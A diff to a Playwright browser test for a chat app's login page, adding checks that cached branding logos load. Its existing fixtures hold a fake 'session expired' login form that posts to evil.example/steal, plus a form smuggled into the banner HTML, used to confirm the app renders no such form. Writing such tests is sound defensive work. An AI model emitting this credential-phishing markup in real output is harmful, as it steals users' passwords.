@@ -1,10 +1,14 @@
 // @vitest-environment node
 // The login page and hostile model output in a real browser (Debian chromium) against the real stack:
 // a streamed assistant message carrying a fake login form renders no form (issue 12.8), and after
-// LOGIN_ATTEMPT_LIMIT_MAX wrong passwords the login page counts the lock-out down (contract §5.5).
+// LOGIN_ATTEMPT_LIMIT_MAX wrong passwords the login page counts the lock-out down (contract §5.5); the
+// branding (banner, colours, cached logos) shows.
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { existsSync, mkdirSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
+import { pathToFileURL } from 'node:url';
 import { chromium, type Browser, type Page } from 'playwright-core';
 import { REPO_ROOT, configureFakeLlm, makeStackDirs, seedProject, startFakeLlm, startStack, type FakeLlm, type Stack } from '@pi-forge/test-fixtures';
 
@@ -12,6 +16,9 @@ const PASSWORD = 'login-page-password-Vb6';
 const SHOTS = join(REPO_ROOT, 'test-output', 'screenshots');
 const CHROMIUM = ['/usr/bin/chromium', '/usr/bin/chromium-browser'].find((p) => existsSync(p)) ?? '/usr/bin/chromium';
 const STEP = 60_000;
+const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
+// Loopback logos reach the cache only with this test-only preload (see gateway/src/ui-config/address-policy.ts).
+const LOOPBACK_LOGOS = `--import=${pathToFileURL(join(REPO_ROOT, 'gateway/dist/test/allow-loopback-logos.js')).href}`;
 const FAKE_LOGIN = [
   'Your session expired. Please sign in again:\n\n',
   '<form action="https://evil.example/steal" method="post"><style>.app{display:none}</style>',
@@ -24,9 +31,16 @@ describe('the login page and hostile output in a browser', () => {
   let stack: Stack;
   let llm: FakeLlm;
   let browser: Browser;
+  let logoServer: Server;
 
   beforeAll(async () => {
     mkdirSync(SHOTS, { recursive: true });
+    logoServer = createServer((req, res) => {
+      if (req.url === '/login.png' || req.url === '/dark.png') return res.writeHead(200, { 'content-type': 'image/png' }).end(PNG);
+      res.writeHead(404).end();
+    });
+    await new Promise<void>((r) => logoServer.listen(0, '127.0.0.1', r));
+    const logoBase = `http://127.0.0.1:${(logoServer.address() as AddressInfo).port}`;
     llm = await startFakeLlm({ delayMs: 10 });
     const dirs = makeStackDirs();
     configureFakeLlm(dirs.piConfig, llm);
@@ -35,6 +49,7 @@ describe('the login page and hostile output in a browser', () => {
       UI_PASSWORD: PASSWORD, LOGIN_ATTEMPT_LIMIT_MAX: '2', LOGIN_LOCKOUT_MS: '120000',
       AUTH_BANNER_TEXT: 'Authorised use only.\\nRead <b>the policy</b><form action="https://evil.example"><input name="q"></form>', AUTH_BANNER_HTML: 'true',
       AUTH_COLOR_SCHEME: '#102030,#203040,#304050,#f0f0f0,#a0a0a0,#00aa55,#ffffff,#008844',
+      NODE_OPTIONS: LOOPBACK_LOGOS, AUTH_URL_LOGO: `${logoBase}/login.png`, APP_LOGO_DARK_URL: `${logoBase}/dark.png`,
     } });
     browser = await chromium.launch({
       executablePath: CHROMIUM,
@@ -47,7 +62,12 @@ describe('the login page and hostile output in a browser', () => {
     await browser?.close();
     await stack?.dispose();
     await llm?.close();
+    logoServer?.closeAllConnections();
+    await new Promise((r) => logoServer?.close(r));
   }, 30_000);
+
+  /** The image loaded (CSP allowed it, the bytes decoded). */
+  const loaded = (img: ReturnType<Page['locator']>) => img.evaluate((el) => (el as HTMLImageElement).complete && (el as HTMLImageElement).naturalWidth > 0);
 
   async function freshPage(): Promise<Page> {
     const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
@@ -60,6 +80,10 @@ describe('the login page and hostile output in a browser', () => {
     await page.getByLabel('Password', { exact: true }).fill(PASSWORD);
     await page.getByRole('button', { name: 'Sign in' }).click();
     await page.getByRole('main', { name: 'Chat' }).waitFor({ timeout: 15_000 });
+    // The dark-theme header logo comes from the gateway's logo cache.
+    const headerLogo = page.locator('header img.brand-logo');
+    expect(await headerLogo.getAttribute('src')).toMatch(/^\/cache\/logos\/appDark-[0-9a-f]{16}\.png$/);
+    await expect.poll(() => loaded(headerLogo)).toBe(true);
     await page.getByRole('button', { name: 'hostile', exact: true }).click();
     await page.getByRole('button', { name: 'New session', exact: true }).click();
     await expect.poll(() => page.locator('.conn').textContent(), { timeout: 10_000 }).toBe('Live');
@@ -84,6 +108,9 @@ describe('the login page and hostile output in a browser', () => {
     await expect.poll(() => banner.locator('b').textContent()).toBe('the policy');
     expect(await banner.locator('form, input').count()).toBe(0);
     expect(await page.locator('.auth-page').evaluate((el) => getComputedStyle(el).backgroundColor)).toBe('rgb(16, 32, 48)');
+    const logo = page.locator('img.auth-logo');
+    expect(await logo.getAttribute('src')).toMatch(/^\/cache\/logos\/auth-[0-9a-f]{16}\.png$/);
+    await expect.poll(() => loaded(logo)).toBe(true);
     const password = page.getByLabel('Password', { exact: true });
     const signIn = page.getByRole('button', { name: 'Sign in' });
     for (let i = 0; i < 2; i++) {
